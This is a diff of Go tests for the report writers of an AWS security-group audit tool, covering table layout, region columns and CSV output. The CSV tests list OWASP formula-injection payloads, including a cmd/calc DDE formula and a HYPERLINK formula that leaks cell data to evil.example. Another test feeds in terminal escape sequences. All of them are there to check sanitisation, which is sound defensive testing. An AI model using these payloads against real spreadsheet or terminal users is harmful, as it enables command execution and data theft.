@@ -150,10 +150,20 @@ func reportFixture() *Report {
 			x.RuleID, x.PortRange, x.CIDR, x.Description = "sgr-0ee55ff66aa77bb8a", "80", "0.0.0.0/0", "http"
 			x.Reasons = []string{"ingress from the whole internet to a web port (80)"}
 		}),
+		f(StaleSource, Low, func(x *Finding) {
+			x.RuleID, x.PortRange, x.CIDR = "sg-0a1b2c3d4e5f60718:ingress:tcp:22:pl-0c0ffee1234567890", "22", "81.2.69.142/32"
+			x.PrefixList = &collector.PrefixListRef{ID: "pl-0c0ffee1234567890", Name: "office-ranges", Owner: "111111111111", EntryDescription: "Alice home until 2025-03-01"}
+			x.Reasons = []string{"the prefix list entry says until 2025-03-01, which has passed"}
+		}),
 		f(Unvetted, Info, func(x *Finding) {
 			x.RuleID, x.PortRange, x.CIDR, x.Description = "sgr-0aa11bb22cc33dd4b", "443", "203.0.113.99/32", "monitoring"
 			x.Reasons = []string{"no provider could answer for 203.0.113.99"}
 			x.Verdicts = []reputation.Verdict{md4, bl4}
+		}),
+		f(InvalidRule, Info, func(x *Finding) {
+			x.RuleID, x.PortRange, x.CIDR = "sgr-0aa11bb22cc33dd4c", "22", "10.0.0.300/32"
+			x.Invalid = &collector.Invalid{Field: collector.FieldCIDR, Text: "10.0.0.300/32", Reason: "not an IP prefix"}
+			x.Reasons = []string{"the rule could not be parsed, so it was not audited"}
 		}),
 	}
 
@@ -403,12 +413,13 @@ func TestWriteJSONNoNull(t *testing.T) {
 }
 
 func TestWriteTableWidth(t *testing.T) {
-	for _, width := range []int{80, 120, 160} {
+	for _, width := range []int{60, 80, 120, 160} {
 		for name, r := range map[string]*Report{"fixture": reportFixture(), "empty": emptyReportFixture()} {
 			t.Run(name+"/"+strconv.Itoa(width), func(t *testing.T) {
 				out := string(renderFormat(t, "table", WriterOptions{Width: width}, r))
 				for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
-					if n := utf8.RuneCountInString(line); n > width {
+					// Only a word longer than a line may make it longer: it is never cut.
+					if n := utf8.RuneCountInString(line); n > width && len(strings.Fields(line)) > 1 {
 						t.Errorf("line %d is %d characters wide, more than %d: %q", i+1, n, width, line)
 					}
 					if strings.IndexFunc(line, unicode.IsControl) >= 0 {
@@ -416,7 +427,7 @@ func TestWriteTableWidth(t *testing.T) {
 					}
 				}
 				if name == "fixture" {
-					for _, want := range []string{"CRITICAL: 2 findings", "INFO: 1 finding", "new", "INCOMPLETE", "ap-south-1"} {
+					for _, want := range []string{"CRITICAL: 2 findings", "INFO: 2 findings", "new", "INCOMPLETE", "ap-south-1"} {
 						if !strings.Contains(out, want) {
 							t.Errorf("table at width %d lacks %q:\n%s", width, want, out)
 						}
@@ -424,6 +435,71 @@ func TestWriteTableWidth(t *testing.T) {
 				}
 			})
 		}
+	}
+}
+
+// collapsed returns s with every run of white space, line breaks included, as one space:
+// a text wrapped over several lines reads as it did on one.
+func collapsed(s string) string { return strings.Join(strings.Fields(s), " ") }
+
+// TestWriteTableNothingCut renders the table at several widths and checks that every
+// description, reason, group, rule and prefix list is there whole at each, and that
+// nothing is cut with "…".
+func TestWriteTableNothingCut(t *testing.T) {
+	r := reportFixture()
+	r.Findings[1].Description = "break-glass access for the on-call engineer during the datacenter migration, remove after cutover"
+	r.Findings[2].GroupName = "payments-gateway-production-public-load-balancer"
+	var wants []string
+	for _, f := range r.Findings {
+		wants = append(wants, f.Reasons...)
+		wants = append(wants, f.GroupName, f.GroupID, f.RuleID, f.Description, f.CIDR)
+		if f.PrefixList != nil {
+			wants = append(wants, f.PrefixList.ID, f.PrefixList.Name, f.PrefixList.EntryDescription)
+		}
+	}
+	for _, width := range []int{0, 40, 60, 80, 120, 200} {
+		t.Run(strconv.Itoa(width), func(t *testing.T) {
+			out := string(renderFormat(t, "table", WriterOptions{Width: width}, r))
+			if strings.Contains(out, "…") {
+				t.Errorf("table at width %d cuts a text:\n%s", width, out)
+			}
+			flat := collapsed(out)
+			for _, want := range wants {
+				if want = collapsed(OneLine(want)); want != "" && !strings.Contains(flat, want) {
+					t.Errorf("table at width %d lacks %q:\n%s", width, want, out)
+				}
+			}
+		})
+	}
+}
+
+func TestWriteTableRegion(t *testing.T) {
+	one := reportFixture()
+	one.Run.Regions = []string{"eu-west-1"}
+	var kept []Finding
+	for _, f := range one.Findings {
+		if f.Region == "eu-west-1" {
+			kept = append(kept, f)
+		}
+	}
+	one.Findings = kept
+	fromFindings := reportFixture()
+	fromFindings.Run.Regions = nil
+	for _, tt := range []struct {
+		name string
+		r    *Report
+		want bool
+	}{
+		{"one region", one, false},
+		{"regions of the run", reportFixture(), true},
+		{"regions of the findings", fromFindings, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			out := string(renderFormat(t, "table", WriterOptions{Width: 200}, tt.r))
+			if got := strings.Contains(out, "REGION"); got != tt.want {
+				t.Errorf("REGION column shown = %v, want %v:\n%s", got, tt.want, out)
+			}
+		})
 	}
 }
 
@@ -459,7 +535,7 @@ func TestWriteCSV(t *testing.T) {
 	for _, row := range rows[1:] {
 		descriptions[row[col["description"]]] = true
 		for i, cell := range row {
-			if i != col["port_range"] && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
 				t.Errorf("cell %s = %q starts a formula", rows[0][i], cell)
 			}
 		}
@@ -492,17 +568,64 @@ func TestWriteCSVNoFormula(t *testing.T) {
 	for _, tt := range []struct{ in, want string }{
 		{"", ""},
 		{"office", "office"},
+		{"a=b", "a=b"},
+		{"10.0.0.0/8", "10.0.0.0/8"},
 		{"=1+1", "'=1+1"},
 		{"+1", "'+1"},
 		{"-2", "'-2"},
+		{"-1", "'-1"},
+		{"-5-3", "'-5-3"},
 		{"@SUM(A1)", "'@SUM(A1)"},
 		{"\tx", "'\tx"},
 		{"\rx", "'\rx"},
-		{"a=b", "a=b"},
+		{"\nx", "'\nx"},
+		// OWASP CSV injection payloads.
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"\n=cmd|' /C calc'!A0", "'\n=cmd|' /C calc'!A0"},
+		{" =cmd", "' =cmd"},
+		{"   +cmd", "'   +cmd"},
+		{"\t\t-cmd", "'\t\t-cmd"},
+		{"\x00=cmd", "'\x00=cmd"},
+		{"\u00a0@SUM(1+9)*cmd|' /C calc'!A0", "'\u00a0@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"\u200b=1", "'\u200b=1"},
+		{"\ufeff=1", "'\ufeff=1"},
+		{`=HYPERLINK("http://evil.example?leak="&A1,"click")`, `'=HYPERLINK("http://evil.example?leak="&A1,"click")`},
+		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"office =1", "office =1"},
 	} {
 		if got := noFormula(tt.in); got != tt.want {
 			t.Errorf("noFormula(%q) = %q, want %q", tt.in, got, tt.want)
 		}
+	}
+}
+
+// TestWriteCSVEveryColumnGuarded puts a formula into every text field of a finding and
+// checks that no cell of the CSV starts one.
+func TestWriteCSVEveryColumnGuarded(t *testing.T) {
+	for _, payload := range []string{"=1+1", "\n=cmd|' /C calc'!A0", " =cmd", "-5-3", "@x", "+1"} {
+		t.Run(payload, func(t *testing.T) {
+			f := Finding{
+				Kind: Kind(payload), Severity: Severity(payload),
+				RuleRef: RuleRef{Account: payload, Region: payload, GroupID: payload, GroupName: payload, RuleID: payload,
+					Direction: payload, Protocol: payload, PortRange: payload, CIDR: payload, Description: payload,
+					PrefixList: &collector.PrefixListRef{ID: payload, Name: payload, EntryDescription: payload},
+					Invalid:    &collector.Invalid{Field: collector.RuleField(payload), Text: payload, Reason: payload}},
+				Reasons:  []string{payload},
+				Verdicts: []reputation.Verdict{{Provider: payload, Status: reputation.Status(payload)}},
+				Change:   Change(payload),
+			}
+			rows, err := csv.NewReader(bytes.NewReader(renderFormat(t, "csv", WriterOptions{}, &Report{Findings: []Finding{f}}))).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			for i, cell := range rows[1] {
+				if c := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) }); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
+					t.Errorf("column %s = %q starts a formula", csvHeader[i], cell)
+				}
+			}
+		})
 	}
 }
 
@@ -661,6 +784,72 @@ func TestWriteJSONStreamsAsOneDocument(t *testing.T) {
 			want = append(want, '\n')
 			if got := renderFormat(t, "json", WriterOptions{}, r); !bytes.Equal(got, want) {
 				t.Errorf("Write(json) streamed differs from the whole document:\n got %s\nwant %s", got, want)
+			}
+		})
+	}
+}
+
+// TestWriteWhereToFix checks that every text format names the prefix list a finding's
+// rule names, the entry, and what of an invalid rule could not be parsed.
+func TestWriteWhereToFix(t *testing.T) {
+	for _, format := range []string{"table", "csv", "markdown", "json"} {
+		t.Run(format, func(t *testing.T) {
+			out := string(renderFormat(t, format, WriterOptions{}, reportFixture()))
+			for _, want := range []string{"pl-0c0ffee1234567890", "office-ranges", "Alice home until 2025-03-01",
+				"sg-0a1b2c3d4e5f60718:ingress:tcp:22:pl-0c0ffee1234567890", "not an IP prefix"} {
+				if !strings.Contains(out, want) {
+					t.Errorf("Write(%s) lacks %q:\n%s", format, want, out)
+				}
+			}
+		})
+	}
+}
+
+// TestWriteUnvettedGrouped: one provider failure for many addresses reads as one line per
+// provider and reason in the table's and the Markdown's summary, not one per address.
+func TestWriteUnvettedGrouped(t *testing.T) {
+	const reason = "quota exhausted: daily limit of 4000 lookups reached"
+	r := &Report{Run: Run{Providers: []ProviderRun{{Provider: "metadefender"}, {Provider: "blocklist"}}}}
+	for i := range 50 {
+		addr := netip.AddrFrom4([4]byte{203, 0, 113, byte(i + 1)})
+		target := reputation.Target{Prefix: netip.PrefixFrom(addr, 32)}
+		md := reputation.Verdict{Provider: "metadefender", Target: target, Status: reputation.Unknown, Reason: reason}
+		bl := reputation.Verdict{Provider: "blocklist", Target: target, Status: reputation.Clean}
+		r.Findings = append(r.Findings, Finding{Kind: Unvetted, Severity: Info,
+			RuleRef:  RuleRef{GroupID: "sg-0a1b2c3d4e5f60718", RuleID: "sgr-0aa11bb22cc33dd4" + strconv.Itoa(i), CIDR: target.String()},
+			Reasons:  []string{"no provider could answer for " + addr.String()},
+			Verdicts: []reputation.Verdict{md, bl}})
+	}
+	r.Summary.AddressesUnvetted = 50
+	for _, tt := range []struct{ format, want string }{
+		{"table", "metadefender: 50 addresses: " + reason},
+		{"markdown", "metadefender: 50 addresses: " + mdEscape(reason)},
+	} {
+		t.Run(tt.format, func(t *testing.T) {
+			out := string(renderFormat(t, tt.format, WriterOptions{Width: 200}, r))
+			if n := strings.Count(out, tt.want); n != 1 {
+				t.Errorf("Write(%s) has %q %d times, want once:\n%s", tt.format, tt.want, n, out)
+			}
+			if tt.format == "table" {
+				if n := strings.Count(out, reason); n != 1 {
+					t.Errorf("Write(table) has %q %d times, want once:\n%s", reason, n, out)
+				}
+			}
+		})
+	}
+}
+
+// TestWriteNewColumnsOneLine: the prefix list and invalid-rule texts, which come from AWS
+// and from input files, reach no format with a control character.
+func TestWriteNewColumnsOneLine(t *testing.T) {
+	r := &Report{Findings: []Finding{{Kind: InvalidRule, Severity: Info, RuleRef: RuleRef{GroupID: "sg-1", RuleID: "sgr-1",
+		PrefixList: &collector.PrefixListRef{ID: "pl-1\x1b[2J", Name: "office\x1b]0;pwned\x07", EntryDescription: "Alice\x1b[31m home"},
+		Invalid:    &collector.Invalid{Field: collector.FieldCIDR, Text: "10.0.0.1/33\x1b[1A", Reason: "bad\x08 prefix"}}}}}
+	for _, format := range []string{"table", "csv", "markdown"} {
+		t.Run(format, func(t *testing.T) {
+			out := string(renderFormat(t, format, WriterOptions{}, r))
+			if i := strings.IndexAny(out, "\x1b\x07\x08"); i >= 0 {
+				t.Errorf("Write(%s) has a control character at %d:\n%q", format, i, out)
 			}
 		})
 	}
